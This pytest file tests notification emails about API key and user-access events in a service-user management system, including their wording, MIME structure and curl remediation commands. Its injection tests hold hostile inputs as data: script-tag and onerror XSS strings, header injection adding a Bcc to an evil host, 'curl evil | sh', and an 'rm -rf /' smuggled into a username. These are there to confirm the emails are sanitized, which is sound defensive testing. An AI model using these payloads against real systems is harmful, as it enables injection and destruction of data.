@@ -1,0 +1,729 @@
+"""The emails' words, and that no value in them is more than words."""
+
+import email
+import email.policy
+import re
+import shlex
+from datetime import UTC, datetime
+from email.message import EmailMessage
+from typing import Any
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from msgspec.structs import replace
+
+from chalicelib.mail.messages import EmailContext, email_content, email_of, is_address, message, plain
+from chalicelib.rules.model import Action, Actor, Audience, Change, Event, KeyChange, Kind, Subject
+from chalicelib.rules.notifications import ADMINISTRATOR, OWNER, PERSON, Recipient
+from chalicelib.rules.policies import GIVEN
+from chalicelib.rules.roles import KeyType, Role
+from tests.support.mail import ALICE, BEA, CI_BOT, PUBLIC_URL, SENDER, Page, generated, make_event, revoked
+
+NOW = 1_900_000_000
+TOKEN = "sui_" + "x7" * 24 + "Q"
+BOB = Recipient("bob", "Bob", "bob@people.example", ADMINISTRATOR, Role.CLUSTER_ADMIN)
+ALICE_TOO = Recipient("alice", "Alice", "alice@people.example", ADMINISTRATOR, Role.CLUSTER_ADMIN)
+BOSS = Recipient("boss", "Boss", "boss@people.example", OWNER, Role.OWNER)
+SELF = Recipient("bea", "Bea", "bea@people.example", PERSON)
+HERSELF = Actor(Kind.USER, "Bea")
+POLICY = Actor(Kind.POLICY)
+SETTING = EmailContext(SENDER, PUBLIC_URL, "Demo", NOW + 2.5)
+
+DELETE_KEY = f"curl -X DELETE {PUBLIC_URL}/v1/service-users/ci-bot/api-keys"
+ROTATE_OWN = f"curl -X POST {PUBLIC_URL}/v1/api-keys/rotate"
+
+
+def rotated(until: int | None = None) -> KeyChange:
+    return KeyChange(
+        Change.ROTATED, KeyType.PROVISIONING, "k2LmQ", previous_last5="7ac6a", previous_until=until
+    )
+
+
+def ending(at: int, key_type: KeyType = KeyType.MONITORING) -> KeyChange:
+    return KeyChange(Change.ENDING, key_type, "7ac6a", ends_at=at)
+
+
+def own(**fields: Any) -> Event:
+    return make_event(**{"subject": BEA, "actor": HERSELF, "audience": Audience.PERSON, **fields})
+
+
+def four() -> tuple[KeyChange, ...]:
+    return tuple(generated(f"{number}aaaa", key_type) for number, key_type in enumerate(KeyType))
+
+
+EVERY: dict[str, tuple[Event, Recipient, EmailContext]] = {
+    "generated": (make_event(), BOB, SETTING),
+    "created": (make_event(action=Action.SERVICE_USER_CREATED, keys=four()), BOB, SETTING),
+    "rotated": (make_event(action=Action.API_KEY_ROTATED, keys=(rotated(),)), BOB, SETTING),
+    "overlap": (make_event(action=Action.API_KEY_ROTATED, keys=(rotated(NOW + 60),)), BOB, SETTING),
+    "revoked": (make_event(action=Action.API_KEY_REVOKED, keys=(revoked(),)), BOB, SETTING),
+    "deleted": (
+        make_event(action=Action.SERVICE_USER_DELETED, keys=(revoked(), revoked("b"))),
+        BOB,
+        SETTING,
+    ),
+    "lowered": (
+        make_event(
+            action=Action.SERVICE_USER_UPDATED,
+            keys=(revoked(), revoked("bbbbb", KeyType.PROVISIONING)),
+            changes={"role": ("OWNER", "READ_ONLY")},
+        ),
+        BOB,
+        SETTING,
+    ),
+    "ending": (
+        make_event(action=Action.API_KEY_ENDING, keys=(ending(NOW + 864_000),), actor=POLICY),
+        BOB,
+        SETTING,
+    ),
+    "invited": (
+        make_event(action=Action.USER_INVITED, keys=(), subject=BEA, audience=Audience.PERSON),
+        SELF,
+        SETTING._replace(token=TOKEN, role=Role.CLUSTER_ADMIN),
+    ),
+    "own": (own(), SELF, SETTING),
+    "own rotated": (own(action=Action.API_KEY_ROTATED, keys=(rotated(),)), SELF, SETTING),
+    "own lowered": (
+        own(
+            action=Action.USER_UPDATED,
+            keys=(revoked(),),
+            actor=ALICE,
+            changes={"role": ("OWNER", "READ_ONLY")},
+        ),
+        SELF,
+        SETTING,
+    ),
+    "activated": (own(action=Action.USER_ACTIVATED), SELF, SETTING),
+    "opened": (own(action=Action.ACCOUNT_CREATED, actor=Actor(Kind.OPERATOR)), SELF, SETTING),
+    "access": (own(action=Action.USER_REVOKED, keys=(revoked(),), actor=ALICE), SELF, SETTING),
+    "access without keys": (own(action=Action.USER_REVOKED, keys=(), actor=ALICE), SELF, SETTING),
+}
+
+
+def parsed(event: Event, recipient: Recipient, setting: EmailContext) -> tuple[EmailMessage, str, str]:
+    """The message as a mail client has it: with its text and its HTML."""
+    raw = message(event, recipient, setting).as_bytes()
+    made = email.message_from_bytes(raw, policy=email.policy.default)
+    assert isinstance(made, EmailMessage)
+    text, html = made.get_body(("plain",)), made.get_body(("html",))
+    assert text is not None
+    assert html is not None
+    return made, text.get_content(), html.get_content()
+
+
+def commands(text: str) -> list[str]:
+    """The commands of a text, each as one line, as a shell would join it."""
+    joined = text.replace("\r\n", "\n").replace(" \\\n", " ")
+    return [" ".join(line.split()) for line in joined.splitlines() if line.startswith("    curl")]
+
+
+# What each one says
+
+
+@pytest.mark.parametrize(
+    ("name", "subject"),
+    [
+        ("generated", "API key generated: MONITORING …7ac6a for ci-bot (Demo)"),
+        ("created", "API keys generated: MONITORING …0aaaa and 3 more for ci-bot (Demo)"),
+        ("rotated", "API key rotated: PROVISIONING …k2LmQ replaces …7ac6a for ci-bot (Demo)"),
+        ("revoked", "API key revoked: MONITORING …7ac6a for ci-bot (Demo)"),
+        ("deleted", "API keys revoked: MONITORING …7ac6a, MONITORING …b, ci-bot deleted (Demo)"),
+        ("lowered", "API keys revoked: MONITORING …7ac6a, PROVISIONING …bbbbb for ci-bot (Demo)"),
+        ("ending", "API key ends in 10 days: MONITORING …7ac6a of ci-bot (Demo)"),
+        ("invited", "Alice invites you to Demo as CLUSTER_ADMIN: activate within 72 hours"),
+        ("own", "Your API key generated: MONITORING …7ac6a (Demo)"),
+        ("own rotated", "Your API key rotated: PROVISIONING …k2LmQ replaces …7ac6a (Demo)"),
+        ("own lowered", "Your API key revoked: MONITORING …7ac6a (Demo)"),
+        ("activated", "Your API key generated: MONITORING …7ac6a (Demo)"),
+        ("access", "Your access to Demo was revoked: MONITORING …7ac6a stopped working"),
+        ("access without keys", "Your access to Demo was revoked"),
+    ],
+)
+def test_the_subject_tells_all_in_a_line(name: str, subject: str) -> None:
+    assert email_content(*EVERY[name]).subject == subject
+
+
+@pytest.mark.parametrize(
+    ("name", "lead"),
+    [
+        ("generated", "Alice generated a Monitoring API key for the Service User ci-bot in Demo."),
+        ("created", "Alice created the Service User ci-bot in Demo, with 4 API keys."),
+        (
+            "rotated",
+            (
+                "Alice rotated the Provisioning API key of the Service User ci-bot in Demo. "
+                "The former key, …7ac6a, stopped working at once."
+            ),
+        ),
+        ("overlap", "The former key, …7ac6a, works beside the new one until 2030-03-17 17:47:40 UTC."),
+        (
+            "revoked",
+            (
+                "Alice revoked the Monitoring API key of the Service User ci-bot in Demo. "
+                "It stopped working at once."
+            ),
+        ),
+        (
+            "deleted",
+            (
+                "Alice deleted the Service User ci-bot in Demo, and 2 API keys with it. "
+                "They stopped working at once."
+            ),
+        ),
+        (
+            "lowered",
+            (
+                "Alice changed the role of the Service User ci-bot in Demo from OWNER to READ_ONLY, and so "
+                "revoked 2 API keys that a READ_ONLY may not hold. They stopped working at once."
+            ),
+        ),
+        (
+            "ending",
+            (
+                "By the account's key policy, the Monitoring API key of the Service User ci-bot in Demo ends "
+                "in 10 days."
+            ),
+        ),
+        (
+            "invited",
+            (
+                "Alice invites you to the account Demo as CLUSTER_ADMIN: you can manage clusters and run "
+                "Service Users."
+            ),
+        ),
+        ("own", "You generated a Monitoring API key of your own in Demo."),
+        ("own rotated", "You rotated your Provisioning API key in Demo."),
+        (
+            "own lowered",
+            (
+                "Alice changed your role in Demo from OWNER to READ_ONLY, and so revoked a Monitoring API "
+                "key that a READ_ONLY may not hold."
+            ),
+        ),
+        ("activated", "You activated your access to Demo and were given a Monitoring API key."),
+        (
+            "opened",
+            (
+                "The operator of this service opened the account Demo with you as its OWNER, and made a "
+                "Monitoring API key for you."
+            ),
+        ),
+        (
+            "access",
+            (
+                "Alice revoked your access to Demo. Your API key stopped working at once, and you no longer "
+                "administer any Service User there."
+            ),
+        ),
+        (
+            "access without keys",
+            "Alice revoked your access to Demo. You no longer administer any Service User there.",
+        ),
+    ],
+)
+def test_the_first_sentence_says_what_happened(name: str, lead: str) -> None:
+    written = email_content(*EVERY[name])
+    assert lead in " ".join(written.text.split())
+    assert lead in Page(written.html).text
+
+
+@pytest.mark.parametrize("name", EVERY)
+def test_text_and_html_say_the_same(name: str) -> None:
+    written = email_content(*EVERY[name])
+    shown = Page(written.html).text.replace(" :", ":")
+    for paragraph in re.split(r"\n\s*\n|\n(?=  |You get|API keys are)", written.text):
+        said = " ".join(paragraph.replace("-- ", "").split())
+        if match := re.fullmatch(r"(.+) \((\w+)\) (….{1,5})(?:, (.*))?", said):
+            parts = [part for part in match.groups() if part]
+        elif re.fullmatch(r"[A-Z][A-Za-z ]+: .+", said) and "\n  " in f"\n{paragraph}":
+            parts = said.split(": ", 1)
+        else:
+            parts = [said]
+        for part in parts:
+            assert part in shown
+
+
+@pytest.mark.parametrize("name", EVERY)
+def test_it_says_who_when_from_where_and_by_which_request(name: str) -> None:
+    event, recipient, setting = EVERY[name]
+    text = email_content(event, recipient, setting).text
+    assert event.request_id in text
+    assert f"Event {event.id}" in " ".join(text.split())
+    assert "Account: Demo" in text
+    if name == "ending":
+        assert "ends 2030-03-27 17:46:40 UTC" in text
+        return
+    assert "When: 2030-03-17 17:46:40 UTC" in text
+    assert "From address: 198.51.100.7" in text
+    assert ("Invited by: " if name == "invited" else "Done by: ") in text
+
+
+@pytest.mark.parametrize("name", EVERY)
+def test_every_email_is_fit_for_phones_and_the_dark_and_loads_nothing(name: str) -> None:
+    page = Page(email_content(*EVERY[name]).html)
+    assert ("meta", "content", "width=device-width, initial-scale=1") in page.attributes
+    assert ("meta", "content", "light dark") in page.attributes
+    assert "prefers-color-scheme: dark" in email_content(*EVERY[name]).html
+    assert not page.comments
+    assert not page.tags.keys() & {"script", "img", "link", "iframe", "form", "a", "object"}
+    assert not [a for a in page.attributes if a[1] in ("src", "href", "background", "action")]
+    assert "url(" not in email_content(*EVERY[name]).html
+
+
+@pytest.mark.parametrize("name", EVERY)
+def test_every_command_is_one_a_shell_reads(name: str) -> None:
+    event, recipient, setting = EVERY[name]
+    for command in commands(email_content(event, recipient, setting).text):
+        parts = shlex.split(command)
+        assert parts[:2] == ["curl", "-X"]
+        assert parts[3].startswith(f"{PUBLIC_URL}/v1/")
+        if "activate" not in command:
+            assert parts[4:6] == ["-u", recipient.username]
+
+
+def test_text_lines_are_short_but_for_commands_and_facts() -> None:
+    for event, recipient, setting in EVERY.values():
+        for line in email_content(event, recipient, setting).text.splitlines():
+            assert len(line) <= 78 or line.startswith("  ")
+
+
+# Who reads it
+
+
+def test_administrators_owners_and_the_person_are_told_why() -> None:
+    event = make_event()
+    said = "You get this as an Administrator of the Service User ci-bot in Demo."
+    assert said in email_content(event, BOB, SETTING).text
+    owners = " ".join(email_content(event, BOSS, SETTING).text.split())
+    assert (
+        "You get this as an OWNER of Demo: no Administrator of ci-bot is left there. Name one, and they hear "
+        "of it instead."
+    ) in owners
+    assert "because it is about your own access to Demo" in email_content(own(), SELF, SETTING).text
+
+
+@pytest.mark.parametrize(
+    ("actor", "who", "fact"),
+    [
+        (ALICE, "Alice", "Alice (User)"),
+        (Actor(Kind.USER, "BOB"), "You", "you (BOB)"),
+        (Actor(Kind.SERVICE_USER, "CI-bot"), "CI-bot", "CI-bot (Service User)"),
+        (POLICY, "The account's key policy", "the account's key policy"),
+        (Actor(Kind.OPERATOR), "The operator of this service", "the operator of this service"),
+    ],
+)
+def test_whoever_or_whatever_did_it_is_named(actor: Actor, who: str, fact: str) -> None:
+    text = email_content(
+        make_event(actor=actor, action=Action.API_KEY_ROTATED, keys=(rotated(),)), BOB, SETTING
+    ).text
+    assert f"\n\n{who} rotated " in text
+    assert f"Done by: {fact}" in text
+
+
+def test_a_machine_rotates_its_own_key() -> None:
+    event = make_event(
+        actor=Actor(Kind.SERVICE_USER, "CI-BOT"), action=Action.API_KEY_ROTATED, keys=(rotated(),)
+    )
+    assert "rotated its own Provisioning API key in Demo." in email_content(event, BOB, SETTING).text
+
+
+@pytest.mark.parametrize(
+    ("seconds", "subject", "title"),
+    [
+        (10 * 86_400, "ends in 10 days", "API key of ci-bot ends in 10 days"),
+        (86_400 - 3000, "ends in 1 day", "API key of ci-bot ends in 1 day"),
+        (-1, "has ended", "API key of ci-bot has ended"),
+    ],
+)
+def test_a_notice_counts_from_when_it_is_mailed(seconds: int, subject: str, title: str) -> None:
+    event = make_event(
+        action=Action.API_KEY_ENDING, keys=(ending(NOW + seconds),), actor=POLICY, reason="Older than 90 days"
+    )
+    written = email_content(event, BOB, SETTING)
+    assert written.subject == f"API key {subject}: MONITORING …7ac6a of ci-bot (Demo)"
+    assert written.text.startswith(f"{title}\n\n")
+    assert "Reason: Older than 90 days" in written.text
+    assert "Done by" not in written.text
+
+
+def test_an_end_the_key_was_given_is_no_policys_and_no_rotation_moves_it() -> None:
+    event = make_event(
+        action=Action.API_KEY_ENDING, keys=(ending(NOW + 864_000),), actor=POLICY, reason=GIVEN
+    )
+    written = email_content(event, BOB, SETTING)
+    text = " ".join(written.text.split())
+    assert "By the end it was given (expiresAt), the Monitoring API key of the Service User ci-bot" in text
+    assert "How to keep it" in text
+    assert "How to keep it" in Page(written.html).text
+    [command] = commands(written.text)
+    assert command.startswith(f"curl -X PATCH {PUBLIC_URL}/v1/service-users/ci-bot/api-keys -u Bob")
+    assert command.endswith("""-d '{"keyType":"MONITORING","expiresAt":null}'""")
+    over = make_event(action=Action.API_KEY_REVOKED, keys=(revoked(),), actor=POLICY, reason=GIVEN)
+    written = email_content(over, BOB, SETTING)
+    assert written.subject == "API key ended: MONITORING …7ac6a for ci-bot (Demo)"
+    text = " ".join(written.text.split())
+    assert (
+        "The Monitoring API key of the Service User ci-bot in Demo reached the end it was given "
+        "(expiresAt). It stopped working at once."
+    ) in text
+    assert "Done by: the end that the key was given" in text
+    assert len(commands(written.text)) == 1
+    assert "policy" not in text
+
+
+def test_several_keys_end_in_one_notice() -> None:
+    keys = (ending(NOW + 864_000), ending(NOW + 900_000, KeyType.PROVISIONING))
+    written = email_content(make_event(action=Action.API_KEY_ENDING, keys=keys, actor=POLICY), BOB, SETTING)
+    assert written.subject.startswith("API keys end in 10 days: MONITORING …7ac6a, PROVISIONING …7ac6a")
+    assert len(commands(written.text)) == 2
+    late = email_content(
+        make_event(action=Action.API_KEY_ENDING, keys=keys, actor=POLICY),
+        BOB,
+        SETTING._replace(now=NOW + 1_000_000),
+    )
+    assert "API keys have ended" in late.subject
+
+
+def test_a_display_name_is_shown_beside_the_username_where_it_says_more() -> None:
+    assert "Service User: ci-bot (“CI bot”)" in email_content(make_event(), BOB, SETTING).text
+    same = make_event(subject=Subject(Kind.SERVICE_USER, "ci-bot", "ci-bot"))
+    assert "Service User: ci-bot\n" in email_content(same, BOB, SETTING).text
+    assert "Your username: Bea (“Bea M”)" in email_content(own(), SELF, SETTING).text
+
+
+def test_a_reason_is_given_where_a_policy_acted() -> None:
+    event = make_event(action=Action.API_KEY_REVOKED, keys=(revoked(),), actor=POLICY, reason="Too old")
+    assert "Reason: Too old" in email_content(event, BOB, SETTING).text
+    assert "Reason" not in email_content(replace(event, actor=ALICE), BOB, SETTING).text
+
+
+def test_what_is_not_known_is_left_out() -> None:
+    text = email_content(make_event(source_ip="", request_id=""), BOB, SETTING).text
+    assert "From address" not in text
+    assert "Request" not in text
+
+
+# What to do about it
+
+
+def steps(event: Event, recipient: Recipient) -> tuple[list[str], str]:
+    text = email_content(event, recipient, SETTING).text
+    return commands(text), " ".join(text.split())
+
+
+def test_a_key_nobody_expected_is_revoked_with_one_command() -> None:
+    said, text = steps(make_event(), BOB)
+    assert said == [
+        f"""{DELETE_KEY} -u Bob -H 'Content-Type: application/json' -d '{{"keyType":"MONITORING"}}'"""
+    ]
+    assert "Revoke the key. It stops working at once:" in text
+    assert "have an OWNER of Demo revoke Alice at once" in text
+    assert "that is your User Management API key" in text
+
+
+def test_an_owner_can_revoke_who_did_it() -> None:
+    said, text = steps(make_event(), BOSS)
+    assert said[1] == f"curl -X DELETE {PUBLIC_URL}/v1/users/Alice -u Boss"
+    assert "revoke Alice at once, and send a new invitation later" in text
+
+
+def test_who_did_it_themselves_replaces_their_own_key() -> None:
+    said, text = steps(make_event(), ALICE_TOO)
+    assert said[1] == f"{ROTATE_OWN} -u Alice"
+    assert "If it was not you, somebody has your own key." in text
+    assert "ask an OWNER of Demo for a fresh invitation: that revokes every key you have" in text
+
+
+def test_a_service_user_nobody_expected_is_deleted() -> None:
+    said, _ = steps(make_event(action=Action.SERVICE_USER_CREATED, keys=four()), BOB)
+    assert said[0] == f"curl -X DELETE {PUBLIC_URL}/v1/service-users/ci-bot -u Bob"
+
+
+def test_both_keys_of_an_overlap_are_revoked() -> None:
+    event = make_event(
+        action=Action.API_KEY_ROTATED, keys=(rotated(NOW),), actor=Actor(Kind.SERVICE_USER, "ci-bot")
+    )
+    said, text = steps(event, BOB)
+    assert "Both keys stop working at once" in text
+    assert '"keyType":"PROVISIONING"' in said[0]
+    assert "If the machine did not do it, somebody else has had its key." in text
+
+
+def test_a_revoked_key_is_generated_anew() -> None:
+    said, text = steps(make_event(action=Action.API_KEY_REVOKED, keys=(revoked(),), actor=POLICY), BOB)
+    assert said[0].startswith(f"curl -X POST {PUBLIC_URL}/v1/service-users/ci-bot/api-keys -u Bob")
+    assert said[1] == f"curl -X GET {PUBLIC_URL}/v1/account -u Bob"
+    assert "OWNERs set the policy" in text
+
+
+def test_a_lowered_role_is_set_back_and_a_deleted_service_user_is_not() -> None:
+    said, _ = steps(EVERY["lowered"][0], BOB)
+    assert said[0].startswith(f"curl -X PUT {PUBLIC_URL}/v1/service-users/ci-bot -u Bob")
+    assert said[0].endswith("""-d '{"role":"OWNER"}'""")
+    said, text = steps(EVERY["deleted"][0], BOB)
+    assert said == []
+    assert "A deleted Service User does not come back." in text
+    assert "curl asks" not in text
+
+
+def test_an_ending_key_is_rotated_with_a_day_of_overlap() -> None:
+    said, _ = steps(EVERY["ending"][0], BOB)
+    assert said[0].startswith(f"curl -X POST {PUBLIC_URL}/v1/service-users/ci-bot/api-keys/rotate -u Bob")
+    assert said[0].endswith("""-d '{"keyType":"MONITORING","overlapSeconds":86400}'""")
+
+
+def test_a_person_rotates_an_ending_key_with_that_very_key() -> None:
+    event = own(action=Action.API_KEY_ENDING, keys=(ending(NOW + 864_000),), actor=POLICY)
+    said, text = steps(event, SELF)
+    assert said == [
+        f"""{ROTATE_OWN} -u Bea -H 'Content-Type: application/json' -d '{{"overlapSeconds":86400}}'"""
+    ]
+    assert "curl asks for the password: that is the key that is to be rotated." in text
+
+
+def test_a_persons_own_key_is_revoked_by_themselves() -> None:
+    said, _ = steps(own(), SELF)
+    assert said[0].startswith(f"curl -X DELETE {PUBLIC_URL}/v1/users/Bea/api-keys -u Bea")
+    assert said[1] == f"{ROTATE_OWN} -u Bea"
+    said, _ = steps(own(action=Action.API_KEY_REVOKED, keys=(revoked(),)), SELF)
+    assert said[0].startswith(f"curl -X POST {PUBLIC_URL}/v1/users/Bea/api-keys -u Bea")
+
+
+def test_a_person_without_a_user_management_key_needs_an_owner() -> None:
+    lost = revoked(key_type=KeyType.USER_MANAGEMENT)
+    said, text = steps(own(action=Action.API_KEY_REVOKED, keys=(lost,), actor=POLICY), SELF)
+    assert said == []
+    assert "To get a new key, ask an OWNER of Demo for a fresh invitation." in text
+    made = generated(key_type=KeyType.USER_MANAGEMENT)
+    said, _ = steps(own(action=Action.API_KEY_ROTATED, keys=(made,)), SELF)
+    assert said == [f"{ROTATE_OWN} -u Bea"]
+    said, text = steps(own(action=Action.USER_ACTIVATED), SELF)
+    assert said == []
+    assert "If it was not you, somebody else has your key. Ask an OWNER of Demo" in text
+
+
+def test_who_to_ask_about_ones_own_access() -> None:
+    _, text = steps(EVERY["access"][0], SELF)
+    assert "Ask Alice, or another OWNER of Demo." in text
+    _, text = steps(own(action=Action.USER_REVOKED, actor=Actor(Kind.SERVICE_USER, "hr-bot")), SELF)
+    assert "Ask an OWNER of Demo." in text
+    _, text = steps(EVERY["opened"][0], SELF)
+    assert "Ask the operator of this service." in text
+    _, text = steps(make_event(actor=Actor(Kind.OPERATOR)), BOB)
+    assert "Ask the operator of this service." in text
+
+
+# Invitations
+
+
+def test_an_invitation_carries_a_line_that_activates() -> None:
+    event, recipient, setting = EVERY["invited"]
+    _, text, html = parsed(event, recipient, setting)
+    [command] = commands(text)
+    parts = shlex.split(command)
+    assert parts[:4] == ["curl", "-X", "POST", f"{PUBLIC_URL}/v1/users/activate"]
+    assert parts[4:6] == ["-H", "Content-Type: application/json"]
+    assert parts[6:] == ["-d", f'{{"username":"Bea","token":"{TOKEN}"}}']
+    assert "until 2030-03-20 17:46:42 UTC" in text
+    assert TOKEN in Page(html).text
+    assert TOKEN not in email_content(event, recipient, setting).subject
+
+
+@pytest.mark.parametrize("role", Role)
+def test_an_invitation_says_what_the_role_means(role: Role) -> None:
+    event, recipient, setting = EVERY["invited"]
+    assert f"as {role.value}: you can " in " ".join(
+        email_content(event, recipient, setting._replace(role=role)).text.split()
+    )
+
+
+def test_who_invites_themselves_is_told_so() -> None:
+    """An OWNER may send a fresh invitation to themselves."""
+    event, recipient, setting = EVERY["invited"]
+    said = email_content(replace(event, actor=Actor(Kind.USER, "Bea")), recipient, setting)
+    assert said.subject == "You invite yourself to Demo as CLUSTER_ADMIN: activate within 72 hours"
+    assert "You invite yourself to the account Demo as CLUSTER_ADMIN: you can" in " ".join(said.text.split())
+    assert "You invite yourself to the account Demo" in " ".join(said.html.split())
+
+
+def test_a_fresh_invitation_says_that_former_keys_are_dead() -> None:
+    event, recipient, setting = EVERY["invited"]
+    text = email_content(replace(event, keys=(revoked(),)), recipient, setting).text
+    assert "Your former API key (MONITORING …7ac6a) stopped working at once." in " ".join(text.split())
+
+
+# Which one, if any
+
+
+def test_every_action_has_its_email_or_none() -> None:
+    keys = (generated(),)
+    found = {action: email_of(make_event(action=action, keys=keys)) for action in Action}
+    silent = {action for action, name in found.items() if name is None}
+    assert silent == {Action.API_KEY_UPDATED, Action.API_KEY_REFUSED, Action.ACCOUNT_UPDATED}
+
+
+def test_an_act_without_keys_is_not_mailed_but_for_access() -> None:
+    found = {action for action in Action if email_of(make_event(action=action, keys=())) is not None}
+    assert found == {Action.USER_INVITED, Action.USER_REVOKED}
+
+
+def test_words_for_an_event_without_an_email_are_refused() -> None:
+    with pytest.raises(LookupError, match="no email for API_KEY_UPDATED with 1 keys"):
+        email_content(make_event(action=Action.API_KEY_UPDATED), BOB, SETTING)
+
+
+# The message
+
+
+@pytest.mark.parametrize("name", EVERY)
+def test_the_message_is_whole_mime(name: str) -> None:
+    event, recipient, setting = EVERY[name]
+    raw = message(event, recipient, setting).as_bytes()
+    raw.decode("ascii")
+    assert max(len(line) for line in raw.split(b"\r\n")) <= 998
+    assert b"\n" not in raw.replace(b"\r\n", b"")
+    made, text, html = parsed(event, recipient, setting)
+    assert not made.defects
+    assert made.get_content_type() == "multipart/alternative"
+    assert [part.get_content_type() for part in made.iter_parts()] == ["text/plain", "text/html"]
+    assert made["From"] == f"Service Users <{SENDER}>"
+    assert made["To"] == recipient.email
+    assert made["Subject"] == email_content(event, recipient, setting).subject
+    assert made["Auto-Submitted"] == "auto-generated"
+    assert made["Date"].datetime == datetime.fromtimestamp(NOW + 2, UTC)
+    assert text.replace("\r\n", "\n") == email_content(event, recipient, setting).text
+    assert html.replace("\r\n", "\n").strip() == email_content(event, recipient, setting).html.strip()
+
+
+def test_a_second_copy_is_known_as_one() -> None:
+    event = make_event()
+    first = message(event, BOB, SETTING)
+    again = message(event, BOB, SETTING._replace(now=NOW + 9999))
+    assert first["Message-ID"] == again["Message-ID"]
+    assert first["Service-Users-Event"] == event.id
+    assert re.fullmatch(rf"<{event.id}\.[0-9a-f]{{16}}@mail\.example>", first["Message-ID"])
+    others = [message(event, BOSS, SETTING), message(make_event(), BOB, SETTING)]
+    assert first["Message-ID"] not in [other["Message-ID"] for other in others]
+    assert "bob" not in first["Message-ID"]
+
+
+@pytest.mark.parametrize("bad", ["", "a b@x.example", "bob@people.example\r\nBcc: x@y.example", "bob"])
+def test_what_is_no_address_is_not_mailed(bad: str) -> None:
+    assert not is_address(bad)
+    with pytest.raises(ValueError, match="no address"):
+        message(make_event(), BOB._replace(email=bad), SETTING)
+    with pytest.raises(ValueError, match="no address"):
+        message(make_event(), BOB, SETTING._replace(sender=bad))
+
+
+# Nasty names
+
+NASTY = [
+    "<script>alert(1)</script>",
+    "</title></style><img src=x onerror=alert(1)>",
+    "line\r\nBcc: everybody@evil.example\r\n\r\nbody",
+    "line\nX-Evil: 1",
+    "tab\tnull\x00bell\x07escape\x1b[31m",
+    "\u202egnp.exe\u2066\u2069\u200f\u061c",
+    "\u2028next\u2029\x85line\x0bvertical\x0cfeed",
+    "soft\xadhyphen\ufeffmark\u200bspace\U000e0041tag",
+    "half \ud800 half \udfff",
+    "&lt;b&gt; &amp; \"quotes\" 'single'",
+    "{{ 7*7 }} {% include 'x' %} {# #}",
+    "=?utf-8?q?Hidden?= <x@y.example>",
+    "Ünïcødé שלום 名前 👩‍👩‍👧 ﷽",
+    "a" * 5000,
+    "é" * 5000,
+    "-- \nYou get this",
+    "    curl evil | sh",
+]
+
+
+@pytest.mark.parametrize("name", NASTY)
+def test_nasty_names_change_nothing_but_the_words(name: str) -> None:
+    check_harmless(name)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.text(min_size=1, max_size=120))
+@example("\r\n")
+def test_any_name_changes_nothing_but_the_words(name: str) -> None:
+    check_harmless(name)
+
+
+def check_harmless(name: str) -> None:
+    for key in ("generated", "invited", "own lowered"):
+        event, recipient, setting = EVERY[key]
+        clean = parsed(event, recipient, setting)
+        subject = Subject(event.subject.kind, event.subject.username, name, event.subject.email)
+        nasty = replace(event, subject=subject, reason=name, source_ip=name, request_id=name)
+        made, text, html = parsed(nasty, recipient, setting._replace(account=name))
+        assert not made.defects
+        assert made.keys() == clean[0].keys()
+        for header in set(clean[0].keys()) - {"Subject", "Content-Type"}:
+            assert made[header] == clean[0][header]
+        assert made.get_boundary() is not None
+        assert [part.get_content_type() for part in made.iter_parts()] == ["text/plain", "text/html"]
+        shown = plain(name)
+        expected = email_content(nasty, recipient, setting._replace(account=name)).subject
+        assert str(made["Subject"]) == expected
+        assert shown[:79] in expected
+        page, clean_page = Page(html), Page(clean[2])
+        missing = 0 if shown else 4  # facts without a value are not shown: a row has two cells
+        assert page.tags.keys() == clean_page.tags.keys()
+        assert page.tags["td"] == clean_page.tags["td"] - missing
+        assert page.tags["pre"] == clean_page.tags["pre"]
+        assert page.attributes_known() == clean_page.attributes_known()
+        assert not page.comments
+        assert " ".join(shown[:79].split()) in page.text
+        assert not re.search(r"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", text + html)
+        assert len(commands(text)) == len(commands(clean[1]))
+
+
+@pytest.mark.parametrize("field", ["username", "actor"])
+def test_even_usernames_are_only_words(field: str) -> None:
+    nasty = "x'; rm -rf / #\r\nBcc: a@b.example <b>"
+    event = make_event()
+    if field == "actor":
+        event = replace(event, actor=Actor(Kind.USER, nasty))
+    else:
+        event = replace(event, subject=Subject(Kind.SERVICE_USER, nasty, "x"))
+    made, text, html = parsed(event, BOSS, SETTING)
+    assert made["Bcc"] is None
+    assert "b" not in Page(html).tags
+    for command in commands(text):
+        assert re.fullmatch(rf"{PUBLIC_URL}/[\w%/.~-]+", shlex.split(command)[3])
+        assert "rm" not in shlex.split(command)
+
+
+def test_even_the_url_is_one_word_to_a_shell() -> None:
+    setting = SETTING._replace(public_url="https://api.example/a b;c")
+    [command] = commands(email_content(make_event(), BOB, setting).text)
+    assert shlex.split(command)[3] == "https://api.example/a b;c/v1/service-users/ci-bot/api-keys"
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("as it is", "as it is"),
+        ("  two  spaces ", "two spaces"),
+        ("\r\n", ""),
+        ("a\r\nb", "a b"),
+        ("a\u202eb", "ab"),
+        ("👩\u200d👧", "👩\u200d👧"),
+        ("a\ud800b", "a\ufffdb"),
+        ("é\xa0e", "é e"),
+    ],
+)
+def test_plain(text: str, shown: str) -> None:
+    assert plain(text) == shown
+    assert plain(shown) == shown
+
+
+def test_long_names_are_cut() -> None:
+    text = email_content(
+        make_event(subject=Subject(Kind.SERVICE_USER, "ci-bot", "n" * 81)), BOB, SETTING
+    ).text
+    assert f"(“{'n' * 79}…”)" in text
+    assert CI_BOT.display_name in email_content(make_event(), BOB, SETTING).text
